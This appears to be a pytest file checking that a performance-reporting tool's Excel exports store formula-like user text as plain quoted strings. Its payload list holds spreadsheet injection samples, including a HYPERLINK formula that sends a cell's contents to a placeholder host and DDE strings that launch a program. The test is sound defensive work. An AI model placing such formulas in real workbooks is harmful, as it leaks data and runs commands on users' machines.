"""Spreadsheet formula injection: a text that starts with `=`, `+`, `-` or `@` stays text.

Names and notes come from users; a workbook Kinerja writes must never turn one into a formula
that Excel would run. Each such text is written as a text cell (`data_type == "s"`, with Excel's
quote prefix) and reads back unchanged.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
import pytest

from kinerja.dataset.excel.results_workbook import write_results
from kinerja.dataset.excel.tree import read_xlsx
from kinerja.dataset.excel.writer import realization_workbook, write_xlsx
from kinerja.dataset.measure import measure
from kinerja.dataset.schema import Dataset

PAYLOADS = (
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+62 812 3456",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def _poisoned(example: Dataset) -> Dataset:
    data = example.model_dump()
    objectives = data["strategic_plan"]["objectives"]
    for objective, payload in zip(objectives, PAYLOADS, strict=False):
        objective["name"] = payload
        objective["indicators"][0]["name"] = payload
    data["years"][0]["narrative"][0]["text"] = PAYLOADS[0]
    data["years"][0]["supporting_tables"][0]["rows"][0][0] = PAYLOADS[1]
    data["agency"]["head"]["position"] = PAYLOADS[3]
    return Dataset.model_validate(data)


def _cells(path: Path) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _has_no_formula(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    assert not [cell.coordinate for cell in _cells(path) if cell.data_type == "f"]


def test_texts_that_look_like_formulas_are_written_as_text(example: Dataset, tmp_path: Path):
    dataset = _poisoned(example)
    path = tmp_path / "racun.xlsx"
    write_xlsx(dataset, path)
    _has_no_formula(path)
    written = {cell.value: cell for cell in _cells(path) if cell.value in PAYLOADS}
    assert set(written) == set(PAYLOADS)
    for payload, cell in written.items():
        assert cell.data_type == "s"
        assert cell.value == payload
        assert cell.quotePrefix


def test_texts_that_look_like_formulas_read_back_unchanged(example: Dataset, tmp_path: Path):
    dataset = _poisoned(example)
    write_xlsx(dataset, tmp_path / "racun.xlsx")
    assert read_xlsx(tmp_path / "racun.xlsx") == dataset


def test_the_achievement_workbook_writes_names_as_text(example: Dataset, tmp_path: Path):
    path = tmp_path / "hasil.xlsx"
    write_results([measure(_poisoned(example), 2024)], path)
    _has_no_formula(path)
    names = [cell for cell in _cells(path) if cell.value in PAYLOADS]
    assert names
    assert all(cell.data_type == "s" for cell in names)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_realisation_workbook_writes_notes_as_text(payload: str, tmp_path: Path):
    path = tmp_path / "realisasi.xlsx"
    row = {"agency": "kpu-x", "year": 2024, "indicator": "IK01", "quarter": 1, "value": "95%"}
    realization_workbook([{**row, "note": payload}]).save(path)
    _has_no_formula(path)
    cell = openpyxl.load_workbook(path)["Realisasi"]["G2"]
    assert (cell.value, cell.data_type) == (payload, "s")
